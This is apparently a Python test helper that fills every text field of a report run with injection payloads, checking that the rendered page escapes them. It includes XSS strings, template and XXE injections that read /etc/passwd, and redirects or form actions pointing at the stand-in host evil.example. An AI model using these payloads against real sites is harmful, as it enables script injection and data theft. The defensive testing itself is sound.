"""Texts that try to become part of the page."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

from tests.report.builder import write_run

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title></style></script><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "' onmouseover='alert(4)' autofocus onfocus='alert(5)",
    "<svg/onload=alert(6)>",
    "<iframe srcdoc='<script>parent.alert(7)</script>'></iframe>",
    "javascript:alert(8)",
    "<a href=javascript:alert(9)>x</a>",
    "<style>body{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/><form action=//evil.example><input name=a>",
    "{{ 7*7 }}{% include '/etc/passwd' %}{{ self.__init__ }}",
    "]]><!--<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;-->",
    "\u202egnirts desrever\u202c \u2066isolated",
    "\x00\x1b]0;title\x07",
    "&lt;script&gt;alert(10)&lt;/script&gt;",
    "<details open ontoggle=alert(11)><summary>x</summary>",
    "url('http://evil.example/y'); background: red; } * { visibility: hidden } /*",
)


def everywhere(value: Any, text: str) -> Any:
    """``value`` with every text inside replaced by ``text``, keys that are free texts included."""
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [everywhere(item, text) for item in value]
    if isinstance(value, dict):
        return {key: everywhere(item, text) for key, item in value.items()}
    return value


def write_hostile_run(folder: Path, text: str) -> Path:
    """A run in which every text that is not from a fixed set is ``text``."""
    write_run(folder, rows=40, broken=0.3)
    path = folder / "verdict.json"
    verdict = json.loads(path.read_text())
    before = verdict
    verdict = {**everywhere(verdict, text), "verdict": verdict["verdict"]}
    for part, fixed in (
        ("guardrails", "status"),
        ("guardrail_scores", "status"),
        ("slices", "status"),
        ("targets", "verdict"),
    ):
        for entry, known in zip(verdict[part], before[part], strict=True):
            entry[fixed] = known[fixed]
    verdict["self_test"]["problems"] = [text]
    verdict["spend"]["usd_by_purpose"][text] = 1.0
    verdict["warnings"] = [text]
    verdict["provenance"]["packages"] = {text: text}
    verdict["p_values"] = {text: 0.5}
    verdict["prompt_version"] = verdict["route"] = text
    path.write_text(json.dumps(verdict))
    rows = folder / "test_rows.jsonl"
    lines = [everywhere(json.loads(line), text) for line in rows.read_text().splitlines()]
    for line in lines:
        line["inputs"] = {text: text, "nested": {text: [text]}}
        line["candidate"]["error"] = text
    rows.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return folder
